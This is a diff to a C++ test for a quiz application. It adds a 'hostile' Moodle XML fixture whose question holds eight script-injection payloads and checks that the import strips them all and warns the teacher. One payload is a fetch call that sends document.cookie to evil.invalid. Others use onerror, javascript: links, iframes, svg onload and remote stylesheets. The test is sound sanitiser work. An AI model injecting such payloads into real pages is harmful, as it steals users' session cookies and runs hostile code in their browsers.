@@ -2,7 +2,8 @@
 // publishes each imported paper; import.test.mjs then opens the pages in
 // Chromium and checks that every picture shows. A Moodle XML file carries its
 // pictures as @@PLUGINFILE@@ files (as Moodle's own multichoice example does);
-// a GIFT file shows a picture the teacher put into the pictures folder.
+// a GIFT file shows a picture the teacher put into the pictures folder; a
+// hostile file's scripts are taken out on import.
 // Usage: tess_importpublish <output folder> (prints one page path a line)
 #include "app/appfixture.h"
 #include "app/tessapplication.h"
@@ -93,13 +94,45 @@ QByteArray moodleFile() {
 )";
 }
 
+// A colleague's file with scripts in every form that would run, fetch or
+// open a box on the students' page; the import takes all 8 out. The picture
+// is broken on purpose: its error handler would run.
+QByteArray hostileFile() {
+    return QByteArray(R"xml(<?xml version="1.0" encoding="UTF-8"?>
+<quiz>
+  <question type="category">
+    <category><text>$course$/top/恶意</text></category>
+  </question>
+  <question type="multichoice">
+    <name><text>hostile</text></name>
+    <questiontext format="html">
+      <text><![CDATA[<p>哪个是安全的?<script>window.__ran = 1; fetch('http://evil.invalid/' + document.cookie)</script>
+<img src="data:image/png;base64,AAAA" onerror="window.__ran = 2; alert(2)">
+<a id="bait" href="javascript:window.__ran = 3; alert(3)">点我</a>
+<iframe src="http://evil.invalid/frame"></iframe><svg onload="window.__ran = 4"></svg>
+<style>body {
+    background: url(http://evil.invalid/bg.png) }</style>
+<link rel="stylesheet" href="http://evil.invalid/a.css"></p>]]></text>
+    </questiontext>
+    <single>true</single>
+    <answer fraction="100" format="html">
+      <text><![CDATA[<b id="hover" onmouseover="window.__ran = 5; alert(5)">甲</b>]]></text>
+    </answer>
+    <answer fraction="0" format="html"><text>乙</text></answer>
+  </question>
+</quiz>
+)xml");
+}
+
 class Teacher {
 public:
     Teacher(TMainForm& form, const QDir& out) : m_form(form), m_out(out) {}
 
     // Imports the file with 文件 > 导入题目..., and publishes the paper it
-    // gives with Ctrl+S's command. Returns the page's path.
-    QString importAndPublish(const QString& file, const QString& pageName) {
+    // gives with Ctrl+S's command. Returns the page's path. The import is
+    // to tell nothing but `told`, when given.
+    QString importAndPublish(const QString& file, const QString& pageName,
+                             const QString& told = QString()) {
         const QString page = m_out.absoluteFilePath(pageName);
         // The teacher's defaults name the page new papers are published to.
         m_form.bank().Defaults.outputFile = page;
@@ -107,7 +140,11 @@ public:
         tess::Prompts::instance().queueFile(file);
         command("OnImportQuestions")->trigger();
         const QString said = messageArea(m_form)->toPlainText();
-        if (!said.contains(QStringLiteral("导入了试卷")) || said.contains(QStringLiteral("警告")) ||
+        if (!said.contains(told))
+            fail(QStringLiteral("importing %1, the message area lacks \"%2\":\n%3")
+                     .arg(file, told, said));
+        if (!said.contains(QStringLiteral("导入了试卷")) ||
+            QString(said).remove(told).contains(QStringLiteral("警告")) ||
             said.contains(QStringLiteral("错误")))
             fail(QStringLiteral("importing %1, the message area reads:\n%2").arg(file, said));
         command("OnGenPaper")->trigger();
@@ -170,6 +207,11 @@ int main(int argc, char** argv) {
         Teacher teacher(form, out);
         pages << teacher.importAndPublish(xml, QStringLiteral("moodle.html"));
         pages << teacher.importAndPublish(gift, QStringLiteral("gift.html"));
+        const QString hostile = bank.dir.filePath(QStringLiteral("hostile.xml"));
+        writeFile(hostile, hostileFile());
+        pages << teacher.importAndPublish(
+            hostile, QStringLiteral("hostile.html"),
+            QStringLiteral("警告: 试卷 \"恶意\": 为安全起见删除了 8 处脚本或不安全的内容."));
         if (opener.opened != pages)
             fail(QStringLiteral("the pages opened were \"%1\"")
                      .arg(opener.opened.join(QStringLiteral(", "))));
